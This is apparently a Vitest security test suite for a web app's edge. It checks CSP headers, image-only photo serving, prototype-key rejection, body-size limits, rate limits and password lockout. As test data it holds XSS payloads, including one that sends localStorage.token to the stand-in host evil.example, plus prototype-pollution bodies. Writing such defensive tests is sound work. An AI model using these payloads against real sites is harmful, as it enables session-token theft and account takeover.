import { InitiateAuthCommand } from '@aws-sdk/client-cognito-identity-provider';
import { createHash, randomUUID } from 'node:crypto';
import { readdirSync, rmSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localStackConfig, ROOT } from '../../infra/local/config.ts';
import { startLocalStack, type LocalStack } from '../../infra/local/stack.ts';
import { listContactMessages } from '../../lambdas/data/entities/contact-message.ts';
import { BASE_URL, rawPost } from '../support/api.ts';
import { asRole, ownStackCognito } from '../support/auth.ts';
import { ownStackPort } from '../support/ports.ts';
import { makePhoto, uploadPhoto } from '../support/selling.ts';
import { getPhoto, postUpload, presignUpload, putBucketObject, uploadForm } from '../support/uploads.ts';

/**
 * Issue 7, findings 1, 6 and the protocol-level LOW points, from the attacker's side: the headers
 * that keep an injected script from running or the site from being framed, /photos/ serving only
 * images, the per-client rate limits and password lockout, and the call protocol's transport rules
 * (JSON only, no prototype keys, a clean 413 for any oversized body).
 */

const contact = (subject: string) => ({ data: { name: 'Mallory', email: 'mallory@example.com', subject, message: 'Hello from another site' } });

describe('the headers of every HTML page', () => {
  /** Every pre-rendered page of the site the stack serves, as a URL path. */
  const pages = (() => {
    const dist = path.join(ROOT, 'site', 'dist');
    const found: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        if (entry.isDirectory() && entry.name !== '_astro') walk(path.join(dir, entry.name));
        else if (entry.name === 'index.html') found.push(`/${path.relative(dist, dir)}`.replace(/\/$/, '') || '/');
      }
    };
    walk(dist);
    return found;
  })();
  const directives = (policy: string) => new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]));

  it('carry a CSP whose scripts are the site\'s files and hashed inline scripts only, no framing, a referrer policy and nosniff', async () => {
    expect(pages.length).toBeGreaterThan(20);
    // Stripe.js's origin (locally its twin's port, by either loopback name: /config.json) is the one script source besides our own.
    const { port } = new URL(((await (await fetch(`${BASE_URL}/config.json`)).json()) as { stripeJsUrl: string }).stripeJsUrl);
    const stripeJs = [`http://localhost:${port}`, `http://127.0.0.1:${port}`];
    for (const page of [...pages, '/no-such-page', '/fr/no-such-page']) {
      const response = await fetch(`${BASE_URL}${page}`);
      expect(response.headers.get('content-type'), page).toMatch(/^text\/html/);
      const policy = directives(response.headers.get('content-security-policy') ?? '');
      const scriptSources = policy.get('script-src') ?? policy.get('default-src') ?? [];
      expect(scriptSources, page).toContain("'self'");
      expect(scriptSources, page).not.toContain("'unsafe-inline'");
      expect(scriptSources, page).not.toContain("'unsafe-eval'");
      expect(scriptSources.filter((s) => !s.startsWith("'sha256-")), page).toEqual(["'self'", ...stripeJs]);
      expect(policy.get('frame-ancestors'), page).toEqual(["'none'"]);
      expect(policy.get('object-src'), page).toEqual(["'none'"]);
      expect(response.headers.get('referrer-policy'), page).toBe('strict-origin-when-cross-origin');
      expect(response.headers.get('x-content-type-options'), page).toBe('nosniff');
      // Every inline script the page carries is one the policy lets run (by its hash); nothing else inline.
      const html = await response.text();
      for (const [, attributes, body] of html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)) {
        if (/\ssrc=/.test(attributes!)) continue;
        const hash = `'sha256-${createHash('sha256').update(body!).digest('base64')}'`;
        expect(scriptSources, `${page}: ${body!.slice(0, 60)}`).toContain(hash);
      }
      expect(html, page).not.toMatch(/\son[a-z]+=["']/i);
    }
  });
});

describe('/photos/', () => {
  let seller: Awaited<ReturnType<typeof asRole>>;
  beforeAll(async () => {
    seller = await asRole('seller');
  });

  it('serves a real JPEG or PNG with its image type and nosniff', async () => {
    for (const format of ['jpeg', 'png'] as const) {
      const bytes = await makePhoto(81, format);
      const key = await uploadPhoto(seller.token, bytes, `image/${format}`);
      const served = await getPhoto(key);
      expect(served).toMatchObject({ status: 200, type: `image/${format}`, nosniff: 'nosniff' });
      expect(served.bytes.equals(bytes)).toBe(true);
    }
  });

  it('never serves an HTML or SVG "photo", even one uploaded under a signed image type', async () => {
    const payloads = [
      ['image/jpeg', '<html><script>fetch("//evil.example/?t="+localStorage.token)</script></html>'],
      ['image/png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage.token)"/>'],
    ] as const;
    for (const [type, text] of payloads) {
      const post = await presignUpload(seller.token, type);
      // The policy pins the declared type, not the bytes (as S3's does): the bytes are judged when served.
      expect((await postUpload(post.url, uploadForm(post.fields, Buffer.from(text), type))).status).toBe(204);
      const served = await getPhoto(post.key);
      expect(served.status, text).toBe(404);
      expect(served.type).not.toMatch(/html|svg/);
      expect(served.bytes.toString()).not.toContain('<script');
    }
  });

  it('answers 404 for a stored object of any other type, whatever its bytes', async () => {
    const jpeg = await makePhoto(82);
    const cases = [
      ['text/html', '<script>alert(1)</script>'],
      ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
      ['application/octet-stream', jpeg],
      ['image/webp', jpeg],
      ['image/png', jpeg], // a JPEG stored as PNG: the bytes are not what the type says
    ] as const;
    for (const [index, [type, body]] of cases.entries()) {
      const key = `uploads/${seller.uid}/stored-${index}-${randomUUID()}.bin`;
      await putBucketObject(key, body, type);
      const served = await getPhoto(key);
      expect(served.status, type).toBe(404);
      expect(served.nosniff).toBe('nosniff');
    }
  });
});

describe('the call protocol at the edge (the shared stack)', () => {
  it('refuses a body with __proto__ or constructor keys at any depth as an unknown field', async () => {
    const cases = [
      ['{"data": {"__proto__": {"isAdmin": true}, "categoryId": null, "term": "clock"}}', '__proto__'],
      ['{"__proto__": {"data": {}}, "data": {"categoryId": null, "term": "clock"}}', '__proto__'],
      ['{"data": {"categoryId": null, "term": "clock", "x": [{"constructor": {"prototype": {"isAdmin": true}}}]}}', 'x.0.constructor'],
    ] as const;
    for (const [body, field] of cases) {
      const answer = await rawPost('/api/search', body);
      expect(answer.httpStatus, body).toBe(400);
      expect(answer.message).toBe(`Unknown field: ${field.split('.').pop()}`);
      expect(answer.data.fields).toEqual({ [field]: `Unknown field: ${field.split('.').pop()}` });
    }
  });

  it('answers 413 in the protocol shape for 300 KB and 1.5 MB bodies, never a reset connection', async () => {
    for (const size of [300 * 1024, 1.5 * 1024 * 1024]) {
      const body = JSON.stringify({ data: { categoryId: null, term: 'x'.repeat(size) } });
      const answer = await rawPost('/api/search', body);
      expect(answer.httpStatus, String(size)).toBe(413);
      expect(JSON.parse(answer.raw)).toEqual({ result: { status: 413, code: 'requestTooLarge', message: 'The request body is too large', data: null } });
    }
  });

  it('answers 413 for a 1.5 MB body streamed without a Content-Length', async () => {
    const chunk = new TextEncoder().encode('x'.repeat(64 * 1024));
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent === 0) controller.enqueue(new TextEncoder().encode('{"data":{"term":"'));
        if (sent >= 1.5 * 1024 * 1024) {
          controller.enqueue(new TextEncoder().encode('"}}'));
          return controller.close();
        }
        sent += chunk.length;
        controller.enqueue(chunk);
      },
    });
    const response = await fetch(`${BASE_URL}/api/search`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: stream,
      duplex: 'half',
    } as RequestInit);
    expect(response.status).toBe(413);
    expect((await response.json()).result.status).toBe(413);
  });
});

describe('an attacker on a stack of its own (limits spent here never touch the shared stack)', () => {
  const dataDir = path.join(ROOT, '.data-attack-edge-test');
  let stack: LocalStack;

  beforeAll(async () => {
    rmSync(dataDir, { recursive: true, force: true });
    const port = ownStackPort(400);
    stack = await startLocalStack(localStackConfig({ PORT: String(port), PATINA_DATA_DIR: dataDir }), { log: () => {}, seed: false });
  }, 60_000);
  afterAll(async () => {
    await stack?.stop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const post = (body: string, contentType: string) =>
    fetch(`${stack.url}/api/sendContactMessage`, { method: 'POST', headers: { 'content-type': contentType }, body });
  const storedSubjects = async () => (await listContactMessages()).map((m) => m.subject);

  it('cannot post a call from another site as a text/plain or form body: 415, nothing stored', async () => {
    for (const type of ['text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      const subject = `cross-site ${randomUUID()}`;
      const response = await post(JSON.stringify(contact(subject)), type);
      expect(response.status, type).toBe(415);
      expect(await response.json()).toEqual({ result: { status: 415, code: 'jsonOnly', message: 'Calls must be sent as application/json', data: null } });
      expect(await storedSubjects()).not.toContain(subject);
    }
  });

  it('is stopped by 429 with Retry-After before the 100th of a burst of contact messages; only those before it are stored', async () => {
    const before = (await storedSubjects()).length;
    const statuses: number[] = [];
    let refused: Response | null = null;
    for (let n = 0; n < 100; n++) {
      const response = await post(JSON.stringify(contact(`burst ${n}`)), 'application/json');
      statuses.push(response.status);
      if (response.status === 429) {
        refused ??= response;
        await response.arrayBuffer();
      } else await response.arrayBuffer();
    }
    const firstRefusal = statuses.indexOf(429);
    expect(firstRefusal).toBeGreaterThan(0);
    expect(firstRefusal).toBeLessThan(99);
    expect(statuses.slice(firstRefusal).every((s) => s === 429)).toBe(true);
    expect(Number(refused!.headers.get('retry-after'))).toBeGreaterThan(0);
    const again = await post(JSON.stringify(contact('after the burst')), 'application/json');
    expect(await again.json()).toEqual({ result: { status: 429, code: 'tooManyRequests', message: 'Too many requests, please try again shortly', data: null } });
    expect((await storedSubjects()).length - before).toBe(firstRefusal);
  });

  it('locks a user name after five wrong passwords: then even the right one is refused', async () => {
    const { config, cognito, register } = await ownStackCognito(stack.url);
    const signIn = (email: string, password: string) =>
      cognito
        .send(new InitiateAuthCommand({ AuthFlow: 'USER_PASSWORD_AUTH', ClientId: config.userPoolClientId, AuthParameters: { USERNAME: email, PASSWORD: password } }))
        .then(
          () => 'signed in',
          (error: Error) => `${error.name}: ${error.message}`,
        );
    const password = 'Right-passw0rd!';
    const victim = `victim-${randomUUID().slice(0, 8)}@patina.test`;
    const bystander = `bystander-${randomUUID().slice(0, 8)}@patina.test`;
    await register(victim, password);
    await register(bystander, password);

    const guesses: string[] = [];
    for (let n = 0; n < 8; n++) guesses.push(await signIn(victim, `guess-${n}`));
    // As Cognito answers a wrong password when the pool prevents user existence errors.
    expect(guesses.slice(0, 5)).toEqual(Array(5).fill('NotAuthorizedException: Incorrect username or password.'));
    expect(guesses.slice(5)).toEqual(Array(3).fill('NotAuthorizedException: Password attempts exceeded'));
    expect(await signIn(victim, password)).toBe('NotAuthorizedException: Password attempts exceeded');
    // The lock is the guessed user name's, not everyone's.
    expect(await signIn(bystander, password)).toBe('signed in');
  });

  it('is stopped by 429 TooManyRequestsException with Retry-After past the registration limit', async () => {
    const config = (await (await fetch(`${stack.url}/config.json`)).json()) as { userPoolClientId: string; cognitoEndpoint: string };
    const endpoint = config.cognitoEndpoint.replace('//localhost:', '//127.0.0.1:');
    const confirm = () =>
      fetch(endpoint, {
        method: 'POST',
        headers: { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': 'AWSCognitoIdentityProviderService.ConfirmSignUp' },
        body: JSON.stringify({ ClientId: config.userPoolClientId, Username: `nobody-${randomUUID()}@patina.test`, ConfirmationCode: '000000' }),
      });
    let refused: Response | null = null;
    for (let n = 0; n < 400 && !refused; n++) {
      const response = await confirm();
      if (response.status === 429) refused = response;
      else await response.arrayBuffer();
    }
    expect(refused).not.toBeNull();
    expect(Number(refused!.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(await refused!.json()).toEqual({ __type: 'TooManyRequestsException', message: 'Too many requests, please try again shortly' });
  });
});
